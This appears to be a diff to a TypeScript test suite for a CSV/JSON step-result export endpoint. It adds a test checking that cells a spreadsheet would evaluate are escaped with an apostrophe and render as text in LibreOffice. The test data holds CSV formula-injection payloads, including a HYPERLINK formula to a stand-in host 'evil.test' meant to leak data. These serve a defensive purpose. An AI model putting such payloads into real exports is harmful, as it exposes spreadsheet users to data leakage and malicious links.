@@ -1,12 +1,13 @@
 /**
  * Step-result export (issue 16 section 2): `GET api/nodes/{id}/export-step-result` in every format for CLF,
  * SPAN, LEXICON and LLM nodes, the range and delimiter refusals, the access rule (ADMIN on the node's
- * process), and the round trip of the training formats through the external-model answer format. Documents,
+ * process), the round trip of the training formats through the external-model answer format, and CSV cells that
+ * a spreadsheet would evaluate opened in LibreOffice as text (issue 25 finding 3). Documents,
  * steps and tags are inserted directly; other suites share the database, so everything is in own processes.
  */
 import { readAnswer } from '../../activities/actions/model-answers';
 import { loadLabels } from '../../activities/actions/model-io';
-import { spansFromConll } from '../../domain/export';
+import { spansFromConll } from '../../domain/export-conll';
 import {
   grant,
   buildProcess,
@@ -17,6 +18,7 @@ import {
   setupSuite,
 } from '../support/harness';
 import { insertDocument, insertTag, stepOf } from '../support/documents';
+import { csvAsHtml } from '../support/media';
 
 const DAY = 86_400_000;
 const dateOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
@@ -273,4 +275,52 @@ describe('step-result export', () => {
     expect(foreign.status).toBe(200);
     expect(foreign.body).toEqual([]);
   });
+
+  it('writes CSV cells a spreadsheet would evaluate (names, LLM answers) so that LibreOffice shows them as text', async () => {
+    const upload = await insertNode(knex, processId, 'HUP');
+    const node = await insertNode(knex, processId, 'LLM_PROMPT');
+    const answers: [string, string][] = [
+      ['=HYPERLINK("http://evil.test/?leak","click me")', '=1+2+0.5'],
+      ['@SUM(1+1)', '+7+8'],
+      ['-2+3', '=HYPERLINK("http://evil.test/","answer link")'],
+    ];
+    for (const [filename, response] of answers) {
+      const documentId = await insertDocument(knex, processId, upload.id, filename, {
+        steps: [
+          [upload.id, 'DONE'],
+          [node.id, 'WAITING'],
+        ],
+      });
+      const stepId = await finishedStep(documentId, node.id, new Date());
+      await knex('llm_chat_responses').insert({
+        step_id: stepId,
+        node_id: node.id,
+        document_id: documentId,
+        prompt: 'p',
+        response,
+      });
+    }
+    const res = await get(url(node.id, '?format=csv'), suite.admin);
+    expect(res.status).toBe(200);
+    const csv = res.body as string;
+    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.test/?leak"",""click me"")",DONE,`);
+    expect(csv).toContain(`,"'=1+2+0.5"\r\n`);
+
+    const html = await csvAsHtml(csv);
+    const cells = [...html.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((m) =>
+      m[1]
+        .replace(/<[^>]+>/g, '')
+        .replace(/&quot;/g, '"')
+        .replace(/&amp;/g, '&'),
+    );
+    // the cells hold the text as written (after the apostrophe), not a computed 3.5 or a link
+    for (const [filename, response] of answers) {
+      expect(cells).toContain(`'${filename}`);
+      expect(cells).toContain(`'${response}`);
+    }
+    expect(cells).not.toContain('3.5');
+    expect(cells).not.toContain('15');
+    expect(html).not.toMatch(/<a\s/i);
+    expect(html).not.toContain('sdval="3.5"');
+  }, 120_000);
 });
